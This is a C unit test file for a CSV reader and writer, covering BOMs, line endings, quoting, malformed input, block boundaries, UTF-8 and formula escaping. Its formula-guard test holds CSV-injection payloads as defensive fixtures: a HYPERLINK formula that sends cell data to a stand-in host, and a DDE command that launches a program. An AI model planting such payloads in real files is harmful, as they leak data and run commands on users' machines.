/* CSV reading and writing (csvio.c over libcsv): BOM, CRLF and LF, quoted
 * fields with commas, doubled quotes and line breaks (and the line numbers
 * of the records after them), empty files, a 10,000-column row, invalid
 * UTF-8, malformed quoting, records across the 64 KiB read blocks, the
 * writer read back by the reader, and the apostrophe before a formula. */
#include "base/common.h"
#include "core/csvio.h"
#include "base/strbuf.h"
#include "base/error.h"
#include "tap.h"

/* Every record read, flattened: "line:field|field|...\n". */
struct collect {
	struct strbuf out;
	size_t max_fields;
	int stop_after;		/* return -1 from the callback after this many records (0: never) */
	int seen;
};

static int collect_row(void *data, const struct csvio_row *row)
{
	struct collect *c = data;
	size_t i;

	strbuf_addf(&c->out, "%lu:", row->line);
	for (i = 0; i < row->nfields; i++) {
		if (i)
			strbuf_addch(&c->out, '|');
		if (strlen(row->fields[i]) != row->lens[i])
			strbuf_addstr(&c->out, "<NUL>");
		strbuf_addstr(&c->out, row->fields[i]);
	}
	strbuf_addch(&c->out, '\n');
	if (row->nfields > c->max_fields)
		c->max_fields = row->nfields;
	c->seen++;
	return c->stop_after && c->seen >= c->stop_after ? -1 : 0;
}

static struct strbuf last_error = STRBUF_INIT;

static void capture(const char *level, const char *msg)
{
	strbuf_reset(&last_error);
	strbuf_addf(&last_error, "%s: %s", level, msg);
}

/* Parse `len` bytes; returns csvio_read()'s result, the records in c->out. */
static long parse(const char *text, size_t len, struct collect *c)
{
	FILE *fp = tmpfile();
	long n;

	if (!fp) {
		perror("tmpfile");
		exit(1);
	}
	if (len)
		fwrite(text, 1, len, fp);
	rewind(fp);
	strbuf_reset(&c->out);
	strbuf_reset(&last_error);
	c->max_fields = 0;
	c->seen = 0;
	n = csvio_read(fp, "t.csv", collect_row, c);
	fclose(fp);
	return n;
}

static void check(const char *text, long want_n, const char *want, const char *name)
{
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	long n = parse(text, strlen(text), &c);

	is_int(n, want_n, "%s: record count", name);
	is_str(c.out.buf, want, "%s: records", name);
	strbuf_release(&c.out);
}

static void test_line_endings(void)
{
	check("email,name\nalice@example.org,Alice\nbob@example.org,Bob\n", 3,
	      "1:email|name\n2:alice@example.org|Alice\n3:bob@example.org|Bob\n", "LF");
	check("email,name\r\nalice@example.org,Alice\r\nbob@example.org,Bob\r\n", 3,
	      "1:email|name\n2:alice@example.org|Alice\n3:bob@example.org|Bob\n", "CRLF");
	check("email,name\r\nalice@example.org,Alice\r\nbob@example.org,Bob", 3,
	      "1:email|name\n2:alice@example.org|Alice\n3:bob@example.org|Bob\n", "CRLF, no final line break");
	check("\xEF\xBB\xBF" "email,name\nalice@example.org,Alice\n", 2,
	      "1:email|name\n2:alice@example.org|Alice\n", "BOM + LF: the BOM is not part of 'email'");
	check("\xEF\xBB\xBF" "email,name\r\nzoe@example.org,Zo\xC3\xAB M\xC3\xBCller\r\n", 2,
	      "1:email|name\n2:zoe@example.org|Zo\xC3\xAB M\xC3\xBCller\n", "BOM + CRLF, non-ASCII kept");
	check("email\n\xEF\xBB\xBFx@example.org\n", 2,
	      "1:email\n2:\xEF\xBB\xBFx@example.org\n", "a BOM after the start is data");
	check("email,name\n\nalice@example.org,Alice\n\r\n\nbob@example.org,Bob\n", 3,
	      "1:email|name\n3:alice@example.org|Alice\n6:bob@example.org|Bob\n",
	      "blank lines skipped, line numbers still physical");
	check("email,name\n  alice@example.org , Alice \n", 2,
	      "1:email|name\n2:alice@example.org|Alice\n", "spaces around unquoted fields trimmed");
}

static void test_quoting(void)
{
	check("email,name,note\n"
	      "a@example.org,\"Okafor, Amara\",\"say \"\"hi\"\"\"\n"
	      "b@example.org,\"two\nlines\",\"three\r\nlines\r\nhere\"\n"
	      "c@example.org,C,\"\"\n"
	      "d@example.org,\" padded \",x\n",
	      5,
	      "1:email|name|note\n"
	      "2:a@example.org|Okafor, Amara|say \"hi\"\n"
	      "3:b@example.org|two\nlines|three\r\nlines\r\nhere\n"
	      "7:c@example.org|C|\n"
	      "8:d@example.org| padded |x\n",
	      "quoted commas, doubled quotes, embedded LF and CRLF; later line numbers right");
	check("email\r\n\"x@example.org\r\n\r\ny\"\r\nz@example.org\r\n", 3,
	      "1:email\n2:x@example.org\r\n\r\ny\n5:z@example.org\n",
	      "blank lines inside a quoted field are data");
	check("email,name\na@example.org,\n,\n", 3, "1:email|name\n2:a@example.org|\n3:|\n",
	      "empty fields");
	check("email,name\na@example.org,A,extra,more\nb@example.org\n", 3,
	      "1:email|name\n2:a@example.org|A|extra|more\n3:b@example.org\n",
	      "ragged rows are passed on as they are (the importer rejects them)");
}

static void test_empty(void)
{
	check("", 0, "", "empty file: no records");
	check("\xEF\xBB\xBF", 0, "", "only a BOM: no records");
	check("\n\r\n\n", 0, "", "only blank lines: no records");
	check("email,name\n", 1, "1:email|name\n", "header only");
	check("email,name", 1, "1:email|name\n", "header only, no line break");
}

static void test_malformed(void)
{
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	const char *t;

	/* As LibreOffice and Python's csv read it: data, with a warning. */
	t = "email,name\na@example.org,Alice\nb@example.org,Bob \"B\" Smith ,x\"\n";
	is_int(parse(t, strlen(t), &c), 3, "a quote inside an unquoted field is read as written");
	is_str(c.out.buf, "1:email|name\n2:a@example.org|Alice\n3:b@example.org|Bob \"B\" Smith|x\"\n",
	       "  the quotes kept, the spaces around trimmed as for any unquoted field");
	ok(strstr(last_error.buf, "warning: t.csv:3: a quote inside an unquoted field") != NULL,
	   "  with a warning naming file and line: %s", last_error.buf);

	t = "email,name\na@example.org,\"Alice\"x\n";
	is_int(parse(t, strlen(t), &c), -1, "text after a closing quote is an error");
	ok(strstr(last_error.buf, "t.csv:2:") != NULL, "it names file and line: %s", last_error.buf);

	t = "email,name\na@example.org,Alice\nb@example.org,\"Bob\nc@example.org,C\n";
	is_int(parse(t, strlen(t), &c), -1, "an unterminated quoted field is an error");
	ok(strstr(last_error.buf, "t.csv:3:") && strstr(last_error.buf, "never closed"),
	   "it names the line where the field starts: %s", last_error.buf);

	t = "email\na@example.org\nb@example.org\nc@example.org\n";
	c.stop_after = 2;
	is_int(parse(t, strlen(t), &c), -1, "the callback can stop the parse");
	is_int(c.seen, 2, "no record after the stop");
	strbuf_release(&c.out);
}

static void test_delimiters(void)
{
	check("email;name;city\na@example.org;Alice;\"Lyon; France\"\n", 2,
	      "1:email|name|city\n2:a@example.org|Alice|Lyon; France\n", "';' detected (European Excel)");
	check("email\tname\na@example.org\tAl, Jr.\n", 2,
	      "1:email|name\n2:a@example.org|Al, Jr.\n", "tab detected");
	check("\"e;mail\",name\na@x.org,A\n", 2,
	      "1:e;mail|name\n2:a@x.org|A\n", "a ';' inside quotes does not count");
	check("email\na@example.org\n", 2, "1:email\n2:a@example.org\n", "one column: ','");
}

static void test_wide_row(void)
{
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	struct strbuf t = STRBUF_INIT, want = STRBUF_INIT;
	int i;

	for (i = 0; i < 10000; i++)
		strbuf_addf(&t, "%sc%d", i ? "," : "", i);
	strbuf_addstr(&t, "\r\n");
	for (i = 0; i < 10000; i++)
		strbuf_addf(&t, "%s\"v,%d\"", i ? "," : "", i);
	strbuf_addstr(&t, "\r\nlast\r\n");
	is_int(parse(t.buf, t.len, &c), 3, "10,000-column rows: record count");
	is_int((long long)c.max_fields, 10000, "10,000 fields in a record");
	strbuf_addstr(&want, "2:v,0|v,1|");
	ok(strstr(c.out.buf, want.buf) != NULL, "values of the wide row");
	strbuf_reset(&want);
	strbuf_addstr(&want, "|v,9999\n3:last\n");
	ok(c.out.len > want.len && !strcmp(c.out.buf + c.out.len - want.len, want.buf),
	   "the last column and the next record's line number");
	strbuf_release(&t);
	strbuf_release(&want);
	strbuf_release(&c.out);
}

/* Records and fields crossing the 64 KiB read blocks, and line numbers far down. */
static void test_blocks(void)
{
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	struct strbuf t = STRBUF_INIT, big = STRBUF_INIT;
	int i;
	char want[64];

	strbuf_addstr(&t, "email,name\n");
	for (i = 0; i < 30000; i++)
		strbuf_addf(&t, "user%d@example.org,\"Name, %d\"\n", i, i);
	strbuf_addchars(&big, 'x', 200000);
	strbuf_addf(&t, "big@example.org,\"%s\nsecond line\"\n", big.buf);
	strbuf_addstr(&t, "after@example.org,After\n");
	is_int(parse(t.buf, t.len, &c), 30003, "30,000 rows plus a 200 KB field: record count");
	ok(strstr(c.out.buf, "\n20001:user19999@example.org|Name, 19999\n") != NULL,
	   "line numbers across blocks");
	ok(strstr(c.out.buf, "x\nsecond line\n30004:after@example.org|After\n") != NULL,
	   "a field longer than a block, then the right line number");
	snprintf(want, sizeof(want), "30002:big@example.org|xxxx");
	ok(strstr(c.out.buf, want) != NULL, "the big field starts on its line");
	strbuf_release(&t);
	strbuf_release(&big);
	strbuf_release(&c.out);
}

/*
 * A record cut by the 64 KiB read block at each of its bytes: the cut must
 * not change what is read.  A bare quote in an unquoted field (Bob "B"
 * Smith) cut there once refused the file; a doubled quote, a quoted line
 * break and CRLF are cut too, and text after a closing quote stays an
 * error wherever it is cut.
 */
static void test_block_cuts(void)
{
	static const struct {
		const char *row;	/* one record, its line break included */
		const char *want;	/* its fields as collect_row writes them; NULL: malformed */
	} rows[] = {
		{ "q@example.org,AAAAAAAA Bob \"B\" Smith ,x\"\r\n", "q@example.org|AAAAAAAA Bob \"B\" Smith|x\"" },
		{ "d@example.org,\"say \"\"hi\"\"\",\"a,b\"\r\n", "d@example.org|say \"hi\"|a,b" },
		{ "e@example.org,\"x\"\",y\"\"z\",E\r\n", "e@example.org|x\",y\"z|E" },
		{ "c@example.org,\"two\r\nlines\",C\n", "c@example.org|two\r\nlines|C" },
		{ "p@example.org,  padded  ,\"\"\r\n", "p@example.org|padded|" },
		{ "b@example.org,\"Alice\"x,\r\n", NULL },
	};
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	struct strbuf t = STRBUF_INIT, want = STRBUF_INIT;
	size_t i, cut, len, bad;
	unsigned long line, row_line;
	const char *p;
	long n;

	for (i = 0; i < ARRAY_SIZE(rows); i++) {
		len = strlen(rows[i].row);
		bad = 0;
		for (cut = 0; cut <= len; cut++) {
			/* One-line records up to 64 KiB - cut, the last one padded to fit. */
			strbuf_reset(&t);
			strbuf_addstr(&t, "email,name,x\n");
			for (line = 2; t.len + 100 < 65536 - cut; line++)
				strbuf_addf(&t, "m%lu@example.org,Name %lu,\n", line, line);
			strbuf_addstr(&t, "pad@example.org,");
			strbuf_addchars(&t, 'p', 65536 - cut - t.len - 2);
			strbuf_addstr(&t, ",\n");
			if (t.len != 65536 - cut)
				BUG("the filler is %zu bytes", t.len);
			row_line = line + 1;
			strbuf_addstr(&t, rows[i].row);
			strbuf_addstr(&t, "z@example.org,Z,\n");
			for (line = row_line, p = rows[i].row; (p = strchr(p, '\n')) != NULL; p++)
				line++;
			strbuf_reset(&want);
			if (rows[i].want)
				strbuf_addf(&want, "\n%lu:%s\n%lu:z@example.org|Z|\n", row_line, rows[i].want, line);
			else
				strbuf_addf(&want, "error: t.csv:%lu: malformed CSV", row_line);
			n = parse(t.buf, t.len, &c);
			if (rows[i].want ? n != (long)row_line + 1 || !strstr(c.out.buf, want.buf) ||
					   strstr(last_error.buf, "error")
					 : n != -1 || !strstr(last_error.buf, want.buf))
				if (!bad++)
					diag("row %zu cut after %zu bytes: %ld records, %s", i + 1, cut, n,
					     last_error.buf);
		}
		ok(!bad, "row %zu cut by the read block after each of its %zu bytes: read the same", i + 1, len);
	}
	strbuf_release(&t);
	strbuf_release(&want);
	strbuf_release(&c.out);
}

static void test_utf8(void)
{
	static const struct {
		const char *s;
		size_t len;
		int valid;
		const char *name;
	} cases[] = {
		{ "plain", 5, 1, "ASCII" },
		{ "Zo\xC3\xAB", 4, 1, "two-byte sequence" },
		{ "\xE2\x82\xAC", 3, 1, "three-byte sequence (euro)" },
		{ "\xF0\x9F\x98\x80", 4, 1, "four-byte sequence (emoji)" },
		{ "", 0, 1, "empty" },
		{ "Zo\xEB", 3, 0, "Latin-1 byte" },
		{ "\xC3", 1, 0, "truncated two-byte sequence" },
		{ "\xE2\x82", 2, 0, "truncated three-byte sequence" },
		{ "\xC0\xAF", 2, 0, "overlong '/'" },
		{ "\xE0\x80\xAF", 3, 0, "overlong three-byte" },
		{ "\xED\xA0\x80", 3, 0, "UTF-16 surrogate" },
		{ "\xF4\x90\x80\x80", 4, 0, "above U+10FFFF" },
		{ "\x80", 1, 0, "lone continuation byte" },
		{ "\xFF", 1, 0, "0xFF" },
		{ "a\0b", 3, 0, "NUL byte" },
	};
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	const char t[] = "email,name\na@example.org,Zo\xEB\nb@example.org,B\0b\n";
	size_t i;

	for (i = 0; i < ARRAY_SIZE(cases); i++)
		is_int(csvio_utf8_valid(cases[i].s, cases[i].len), cases[i].valid, "UTF-8: %s", cases[i].name);
	/* The reader passes bytes on; the importer checks each field. */
	is_int(parse(t, sizeof(t) - 1, &c), 3, "invalid UTF-8 and NUL do not stop the reader");
	is_str(c.out.buf, "1:email|name\n2:a@example.org|Zo\xEB\n3:b@example.org|<NUL>B\n",
	       "lens[] tells a field with a NUL from a short one");
	strbuf_release(&c.out);
}

/* Round trip through the writer: what it writes, the reader gives back. */
static void test_writer(void)
{
	static const char *const fields[] = {
		"plain", "with,comma", "with \"quotes\"", "two\r\nlines", "lf\nonly", "cr\ronly",
		" leading", "trailing ", "\ttab", "", "Zo\xC3\xAB M\xC3\xBCller", "\"", ",", "a\"\"b",
	};
	struct strbuf out = STRBUF_INIT, want = STRBUF_INIT;
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	size_t i;

	csvio_add_field(&out, "plain", 1);
	csvio_add_field(&out, "with,comma", 0);
	csvio_add_field(&out, "say \"hi\"", 0);
	csvio_add_field(&out, "", 0);
	csvio_end_record(&out);
	is_str(out.buf, "plain,\"with,comma\",\"say \"\"hi\"\"\",\r\n",
	       "writer quotes only what needs it, doubles quotes, ends in CRLF");

	strbuf_reset(&out);
	for (i = 0; i < ARRAY_SIZE(fields); i++)
		csvio_add_field(&out, fields[i], i == 0);
	csvio_end_record(&out);
	csvio_add_field(&out, "next", 1);
	csvio_end_record(&out);
	is_int(parse(out.buf, out.len, &c), 2, "writer output reads back as two records");
	strbuf_addstr(&want, "1:");
	for (i = 0; i < ARRAY_SIZE(fields); i++) {
		if (i)
			strbuf_addch(&want, '|');
		strbuf_addstr(&want, fields[i]);
	}
	strbuf_addstr(&want, "\n4:next\n");	/* physical lines: two LFs inside */
	is_str(c.out.buf, want.buf, "every field comes back byte for byte");

	/* Tabs and semicolons inside fields must not make a reader guess another delimiter. */
	strbuf_reset(&out);
	strbuf_reset(&c.out);
	csvio_add_field(&out, "a;b;c", 1);
	csvio_add_field(&out, "t\tu\tv\tw", 0);
	csvio_add_field(&out, "x", 0);
	csvio_end_record(&out);
	is_str(out.buf, "\"a;b;c\",\"t\tu\tv\tw\",x\r\n", "fields holding ';' or a tab are quoted");
	is_int(parse(out.buf, out.len, &c), 1, "and read back as one record");
	is_str(c.out.buf, "1:a;b;c|t\tu\tv\tw|x\n", "with the comma as the delimiter");
	strbuf_release(&out);
	strbuf_release(&want);
	strbuf_release(&c.out);
}

/*
 * A first field that starts with U+FEFF: written unquoted at the start of a
 * file, the reader skips it as a byte order mark and the field loses it.
 * Found by tests/fuzz/fuzz_csv (seed csv/bom-in-field.csv).
 */
static void test_writer_bom_field(void)
{
	struct strbuf out = STRBUF_INIT;
	struct collect c = { STRBUF_INIT, 0, 0, 0 };

	csvio_add_field(&out, "\xEF\xBB\xBF" "email", 1);
	csvio_add_field(&out, "name", 0);
	csvio_end_record(&out);
	is_int(parse(out.buf, out.len, &c), 1, "a leading U+FEFF field reads back as one record");
	is_str(c.out.buf, "1:\xEF\xBB\xBF" "email|name\n", "the field keeps its U+FEFF");
	strbuf_release(&out);
	strbuf_release(&c.out);
}

/*
 * Formulas (OWASP CSV injection): a field that Excel or LibreOffice would
 * run is written with an apostrophe in front, and the reader takes it off.
 */
static void test_writer_formulas(void)
{
	static const struct {
		const char *field, *written;
	} cases[] = {
		{ "=HYPERLINK(\"https://evil.example/?\"&A3,\"Click\")",
		  "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\"" },
		{ "=1+1", "'=1+1" },
		{ "+33 1 23 45 67 89", "'+33 1 23 45 67 89" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
		{ "\t=1+1", "\"'\t=1+1\"" },
		{ "\r=1+1", "\"'\r=1+1\"" },
		{ "-bob@example.org", "'-bob@example.org" },
		{ "=cmd|' /C calc'!A0@example.org", "'=cmd|' /C calc'!A0@example.org" },
		{ "'=1+1", "''=1+1" },		/* else it would read back as =1+1 */
		{ "''-x", "'''-x" },
		{ "'quoted'", "'quoted'" },	/* no formula after the apostrophe: as it is */
		{ "'", "'" },
		{ "a=b", "a=b" },
		{ "Anne-Marie", "Anne-Marie" },
	};
	static const struct {
		const char *csv, *want;
	} reads[] = {
		{ "'=1+1\r\n", "1:=1+1\n" },
		{ "''=1+1\r\n", "1:'=1+1\n" },
		{ "\"'@x\",'-1,'+1,\"'\t\"\r\n", "1:@x|-1|+1|\t\n" },
		{ "'x,'',' =1\r\n", "1:'x|''|' =1\n" },
	};
	struct strbuf out = STRBUF_INIT, want = STRBUF_INIT;
	struct collect c = { STRBUF_INIT, 0, 0, 0 };
	size_t i;

	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		strbuf_reset(&out);
		csvio_add_field(&out, cases[i].field, 1);
		is_str(out.buf, cases[i].written, "formula guard: field %zu written", i + 1);
	}
	strbuf_reset(&out);
	strbuf_addstr(&want, "1:");
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		csvio_add_field(&out, cases[i].field, i == 0);
		strbuf_addf(&want, "%s%s", i ? "|" : "", cases[i].field);
	}
	csvio_end_record(&out);
	strbuf_addch(&want, '\n');
	is_int(parse(out.buf, out.len, &c), 1, "the guarded fields read back as one record");
	is_str(c.out.buf, want.buf, "  each exactly as it was before the guard");
	for (i = 0; i < ARRAY_SIZE(reads); i++) {
		is_int(parse(reads[i].csv, strlen(reads[i].csv), &c), 1, "hand-written apostrophes %zu: one record", i + 1);
		is_str(c.out.buf, reads[i].want, "  one apostrophe off before a formula character only");
	}
	strbuf_release(&out);
	strbuf_release(&want);
	strbuf_release(&c.out);
}

int main(void)
{
	set_report_routine(capture);
	test_line_endings();
	test_quoting();
	test_empty();
	test_malformed();
	test_delimiters();
	test_wide_row();
	test_blocks();
	test_block_cuts();
	test_utf8();
	test_writer();
	test_writer_bom_field();
	test_writer_formulas();
	strbuf_release(&last_error);
	return tap_done();
}
